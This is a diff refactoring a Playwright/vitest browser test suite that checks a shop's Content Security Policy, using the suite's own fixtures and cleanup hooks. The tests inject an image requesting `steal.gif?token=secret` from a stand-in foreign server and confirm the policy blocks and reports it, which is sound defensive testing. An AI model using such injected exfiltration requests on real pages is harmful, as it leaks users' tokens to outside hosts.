@@ -1,13 +1,13 @@
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import type { Page } from 'playwright';
-import { afterAll, beforeAll, expect, inject, test } from 'vitest';
+import { afterAll, expect, inject, onTestFinished } from 'vitest';
 import { write } from '#api/database/transaction.ts';
 import { readSettings, saveSettings } from '#api/services/store/settings.ts';
 import { readPolicy } from '#tests/support/browser/addresses.ts';
 import { startSmallShop } from '#tests/support/browser/shared-shops.ts';
-import { newDataDir, openRecords, type RunningShop, startShop } from '#tests/support/browser/shop-server.ts';
-import { openPage } from '#tests/support/browser/test-page.ts';
+import { newDataDir, openRecords, startShop } from '#tests/support/browser/shop-server.ts';
+import { useShop } from '#tests/support/shop-test.ts';
 
 /** Another site that records its requests and answers with a picture. */
 const asked: string[] = [];
@@ -16,18 +16,10 @@ const foreign = createServer((request, response) => {
   response.writeHead(200, { 'content-type': 'image/svg+xml' });
   response.end('<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"/>');
 });
-let elsewhere: string;
-let shop: RunningShop;
-
-beforeAll(async () => {
-  await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
-  elsewhere = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
-  shop = await startShop(newDataDir(inject('demoTemplate')), { METRICS_TOKEN: 'm3trics' });
-});
-afterAll(async () => {
-  await shop?.stop();
-  foreign.close();
-});
+await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
+afterAll(() => void foreign.close());
+const elsewhere = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
+const { shop, test } = await useShop(startShop(newDataDir(inject('demoTemplate')), { METRICS_TOKEN: 'm3trics' }));
 
 const metrics = async (): Promise<string> =>
   (await fetch(`${shop.url}/metrics`, { headers: { authorization: 'Bearer m3trics' } })).text();
@@ -45,8 +37,7 @@ const injectPicture = (page: Page): Promise<string> =>
     `${elsewhere}/steal.gif?token=secret`,
   );
 
-test('the shop gets a report of a blocked picture', async () => {
-  const { page } = await openPage();
+test('the shop gets a report of a blocked picture', async ({ page }) => {
   await page.goto(shop.url);
   const report = page.waitForRequest((request) => request.url() === `${shop.url}/csp-reports`);
   expect(await injectPicture(page)).toBe('img-src');
@@ -56,15 +47,13 @@ test('the shop gets a report of a blocked picture', async () => {
   await expect.poll(metrics).toContain('shop_csp_violations_total{directive="img-src"} 1');
 });
 
-test('an injected picture is blocked', async () => {
-  const { page } = await openPage();
+test('an injected picture is blocked', async ({ page }) => {
   await page.goto(`${shop.url}/faq`);
   expect(await injectPicture(page)).toBe('img-src');
   expect(asked).toEqual([]);
 });
 
-test('an injected base address is ignored', async () => {
-  const { page } = await openPage();
+test('an injected base address is ignored', async ({ page }) => {
   await page.goto(shop.url);
   const resolved = await page.evaluate((base) => {
     const element = document.createElement('base');
@@ -78,25 +67,21 @@ test('an injected base address is ignored', async () => {
 test.for(['local', 'remote'])(
   'a picture at an external address is shown, from a %s store',
   { timeout: 120_000 },
-  async (place) => {
+  async (place, { page, pageErrors }) => {
     const own = await startSmallShop();
+    onTestFinished(own.stop);
     const remote = place === 'remote' ? await startShop(newDataDir(), { STORE_API_URL: own.apiUrl }) : undefined;
-    try {
-      const db = await openRecords(own);
-      await write(db, async (tx) => saveSettings(tx, { ...(await readSettings(tx)), logo: `${elsewhere}/logo.svg` }));
-      await db.destroy();
-      await own.publish();
-      asked.length = 0;
-      const { page, pageErrors } = await openPage();
-      const response = await page.goto((remote ?? own).url);
-      const policy = response ? await readPolicy({ headers: response.headers(), text: () => response.text() }) : '';
-      expect(policy).toMatch(new RegExp(`img-src 'self' data:[^;]* ${elsewhere}[ ;]`));
-      await expect.poll(() => asked).toContain('/logo.svg');
-      expect(pageErrors).toEqual([]);
-    } finally {
-      await remote?.stop();
-      await own.stop();
-    }
+    if (remote) onTestFinished(remote.stop);
+    const db = await openRecords(own);
+    await write(db, async (tx) => saveSettings(tx, { ...(await readSettings(tx)), logo: `${elsewhere}/logo.svg` }));
+    await db.destroy();
+    await own.publish();
+    asked.length = 0;
+    const response = await page.goto((remote ?? own).url);
+    const policy = response ? await readPolicy({ headers: response.headers(), text: () => response.text() }) : '';
+    expect(policy).toMatch(new RegExp(`img-src 'self' data:[^;]* ${elsewhere}[ ;]`));
+    await expect.poll(() => asked).toContain('/logo.svg');
+    expect(pageErrors).toEqual([]);
   },
 );
 
